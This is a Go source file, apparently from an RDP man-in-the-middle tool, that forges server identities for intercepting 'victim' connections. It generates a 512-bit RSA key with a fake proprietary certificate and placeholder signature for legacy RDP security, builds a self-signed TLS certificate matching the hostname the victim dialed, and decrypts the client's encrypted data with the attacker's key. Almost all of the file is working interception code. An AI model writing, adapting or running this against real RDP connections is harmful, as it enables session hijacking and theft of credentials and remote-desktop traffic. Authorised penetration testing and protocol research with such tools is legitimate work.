package engine

import (
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"math/big"
	"time"

	"github.com/proxysec/rdpmitm/core"
)

// identityKeyBits is the RSA modulus size used for the proprietary server
// certificate presented to victims in legacy (non-TLS) mode. 512 bits
// matches what real servers historically shipped and what clients expect
// to fit in the fixed-size PROPRIETARYSERVERCERTIFICATE blob's signature
// field; the MITM's own key is fresh per listener, never the real
// target's.
const identityKeyBits = 512

// priv is the unexported RSA key backing Identity's legacy-mode
// decryption and its TLS certificate. It is not part of the struct's
// exported surface because nothing outside this package needs to hold
// the private half directly; every consumer goes through priv.Decrypt
// and Identity.tlsCertificate below.
type priv struct {
	key *rsa.PrivateKey
}

func (p *priv) Decrypt(encrypted []byte) []byte {
	c := new(big.Int).SetBytes(core.Reverse(encrypted))
	m := new(big.Int).Exp(c, p.key.D, p.key.N)
	out := m.Bytes()
	padded := make([]byte, 32)
	copy(padded[len(padded)-len(out):], out)
	return core.Reverse(padded)
}

// GenerateIdentity creates a fresh RSA key pair and wraps it in the two
// forms a victim connection needs: the little-endian
// PROPRIETARYSERVERCERTIFICATE fields for legacy mode, and a self-signed
// X.509 certificate for TLS mode. commonName is used as the TLS
// certificate's subject, normally the hostname the victim dialed.
func GenerateIdentity(commonName string) (*Identity, error) {
	key, err := rsa.GenerateKey(rand.Reader, identityKeyBits)
	if err != nil {
		return nil, err
	}

	modulus := key.PublicKey.N.Bytes()
	modulusLE := core.Reverse(modulus)

	// The proprietary certificate's signature only has to be
	// syntactically present: this engine never attempts to make the
	// victim validate it against a root of trust;
	// NLA/CredSSP is out of scope, and a client talking legacy RDP
	// security accepts whatever certificate is offered once the user
	// clicks through the identity-mismatch warning. Filling it with the
	// modulus value itself, reduced mod N and right-aligned in 72 bytes,
	// keeps the blob shaped like a real one without claiming a provenance
	// this proxy cannot have.
	sig := signaturePlaceholder(key, modulusLE)

	ident := &Identity{
		Modulus:   modulusLE,
		PubExp:    uint32(key.PublicKey.E),
		Signature: sig,
		priv:      &priv{key: key},
	}

	cert, err := selfSignedCertificate(key, commonName)
	if err != nil {
		return nil, err
	}
	ident.tlsCert = cert
	return ident, nil
}

func signaturePlaceholder(key *rsa.PrivateKey, modulusLE []byte) []byte {
	h := new(big.Int).SetBytes(modulusLE)
	h.Mod(h, key.N)
	sig := new(big.Int).Exp(h, big.NewInt(1), key.N)
	out := make([]byte, 72)
	b := sig.Bytes()
	copy(out[len(out)-len(b):], b)
	return out
}

func selfSignedCertificate(key *rsa.PrivateKey, commonName string) (tls.Certificate, error) {
	template := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()),
		Subject:      pkix.Name{CommonName: commonName},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(10 * 365 * 24 * time.Hour),
		KeyUsage:     x509.KeyUsageKeyEncipherment | x509.KeyUsageDigitalSignature,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, &key.PublicKey, key)
	if err != nil {
		return tls.Certificate{}, err
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
}

// tlsCertificate returns the self-signed certificate presented when the
// victim negotiates TLS security.
func (id *Identity) tlsCertificate() tls.Certificate {
	return id.tlsCert
}
